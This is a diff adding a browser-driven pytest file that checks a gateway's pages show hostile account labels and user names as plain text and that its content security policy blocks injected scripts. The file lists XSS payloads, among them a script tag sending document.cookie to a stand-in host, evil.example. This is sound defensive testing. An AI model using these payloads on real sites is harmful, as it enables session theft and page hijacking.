@@ -1,0 +1,185 @@
+"""Hostile text on the gateway's pages, in a real browser: shown as it is, and nothing happens (G3)."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+from pymongo import MongoClient
+
+from gateway.dev.data import running_environment
+from tests.support.chromium import needs_chromium
+from tests.support.dashboard import DevGateway, connect, sign_in
+from tests.web.test_hostile_labels import HOSTILE
+
+pytestmark = needs_chromium
+
+ACTIVE = [
+    "<script>fetch('https://evil.example/'+document.cookie)</script>",
+    "<img src=https://evil.example/pixel.png>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=https://evil.example/>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+]
+PAYLOADS = [text for text in dict.fromkeys([*HOSTILE, *ACTIVE]) if text.isprintable()]
+
+WATCH = """
+    window.violations = [];
+    document.addEventListener('securitypolicyviolation',
+        (event) => window.violations.push(event.violatedDirective + ' ' + event.blockedURI));
+"""
+
+
+@dataclass
+class Watched:
+    """A page and what happened in it that should not."""
+
+    page: Page
+    dialogs: list[str] = field(default_factory=list)
+    complaints: list[str] = field(default_factory=list)
+    foreign: list[str] = field(default_factory=list)
+
+    def violations(self) -> Any:
+        """The violations of the content security policy since the page was opened."""
+        return self.page.evaluate("window.violations")
+
+    def assert_quiet(self) -> None:
+        """No dialog, no violation of the policy, no error, and no request to another place."""
+        assert self.violations() == []
+        assert (self.dialogs, self.complaints, self.foreign) == ([], [], [])
+
+
+@pytest.fixture
+def watched(chromium: Browser, dev: DevGateway) -> Iterator[Watched]:
+    context = chromium.new_context(base_url=dev.url)
+    context.add_init_script(WATCH)
+    page = context.new_page()
+    watched = Watched(page)
+
+    def dismiss(dialog: Any) -> None:
+        watched.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    page.on("dialog", dismiss)
+    page.on("pageerror", lambda error: watched.complaints.append(str(error)))
+    page.on(
+        "console",
+        lambda said: watched.complaints.append(said.text) if said.type == "error" else None,
+    )
+    ours = (dev.url, dev.sandbox.url)
+    page.on(
+        "request",
+        lambda asked: None if asked.url.startswith(ours) else watched.foreign.append(asked.url),
+    )
+    yield watched
+    context.close()
+
+
+@pytest.fixture
+def connections(dev: DevGateway) -> Iterator[Any]:
+    """The rows of linked accounts."""
+    env = running_environment(dev.folder)
+    with MongoClient[dict[str, Any]](env["GATEWAY_MONGODB_URL"]) as client:
+        yield client[env.get("GATEWAY_MONGODB_DATABASE", "gateway")]["connections"]
+
+
+def test_the_watch_would_notice(watched: Watched, dev: DevGateway) -> None:
+    """G3: scripts and pictures that a page of the gateway did get into it are blocked and reported."""
+    page = watched.page
+    page.goto("/login")
+    watched.assert_quiet()
+    page.evaluate("""() => {
+        const script = document.createElement('script');
+        script.textContent = 'alert(1)';
+        document.body.append(script);
+        const button = document.createElement('button');
+        button.setAttribute('onclick', 'alert(1)');
+        document.body.append(button);
+        button.click();
+        const image = document.createElement('img');
+        image.src = 'https://evil.example/pixel.png';
+        document.body.append(image);
+        const box = document.createElement('p');
+        box.setAttribute('style', 'display: none');
+        document.body.append(box);
+    }""")
+    page.wait_for_function("window.violations.length >= 4")
+    found = {violation.partition(" ")[0] for violation in watched.violations()}
+    assert found >= {"script-src-elem", "script-src-attr", "img-src", "style-src-attr"}
+    assert watched.dialogs == []
+
+
+def test_thirty_hostile_labels_are_text_and_nothing_else(
+    watched: Watched, dev: DevGateway, connections: Any, subtests: pytest.Subtests
+) -> None:
+    """G3: on every page that shows an account; no dialog, no report, and each shown literally."""
+    assert len(PAYLOADS) >= 30
+    page = watched.page
+    sign_in(page, "hostile")
+    connect(page, "google", "Ana Diaz (ana.diaz@example.com)")
+    (row,) = connections.find({"owner": "user:hostile"})
+    pages = [
+        "/dashboard/connectors",
+        "/connectors/google",
+        f"/connectors/google?reconnect={row['_id']}",
+        f"/dashboard/connections/{row['_id']}/disconnect",
+    ]
+    for payload in PAYLOADS:
+        connections.update_one(
+            {"_id": row["_id"]},
+            {"$set": {"account_label": payload, "external_account_id": payload,
+                      "scopes": {"requested": [payload, "b"], "granted": [payload]},
+                      "connection_config": {"shop": payload}, "metadata": json.dumps({"x": payload})}},
+        )  # fmt: skip
+        for address in pages:
+            with subtests.test(f"{address.partition('?')[0]}: {payload}"):
+                page.goto(address)
+                shown = page.locator("main")
+                expect(shown).to_contain_text(" ".join(payload.split()))
+                watched.assert_quiet()
+                assert page.url.startswith(dev.url)
+    page.wait_for_load_state("networkidle")
+    watched.assert_quiet()  # nothing came late, either
+
+
+def test_hostile_names_of_people_are_text_and_nothing_else(
+    watched: Watched, dev: DevGateway, subtests: pytest.Subtests
+) -> None:
+    """G3: a user id is shown in the page's head and in its code example."""
+    page = watched.page
+    for payload in PAYLOADS[::3]:
+        with subtests.test(payload):
+            sign_in(page, payload)
+            page.locator("details.developer summary").click()
+            expect(page.locator("body")).to_contain_text(f"Signed in as {payload}")
+            page.goto("/connectors/google")
+            watched.assert_quiet()
+            page.context.clear_cookies()
+
+
+def test_no_page_needs_anything_inline(
+    watched: Watched, dev: DevGateway, subtests: pytest.Subtests
+) -> None:
+    """G3: no style, script or handler is written into a page, so that the policy can forbid them."""
+    page = watched.page
+    sign_in(page, "plain")
+    for address in ("/login", "/dashboard/connectors", "/connectors/google", "/connectors/shopify",
+                    "/nowhere", "/connectors/nowhere"):  # fmt: skip
+        with subtests.test(address):
+            page.goto(address)
+            inline = page.evaluate("""() => [
+                ...document.querySelectorAll('style, script:not([src]), [style], base'),
+                ...[...document.querySelectorAll('*')].filter(
+                    (node) => [...node.attributes].some((one) => one.name.startsWith('on'))),
+            ].map((node) => node.outerHTML)""")
+            assert inline == []
+            assert watched.violations() == []
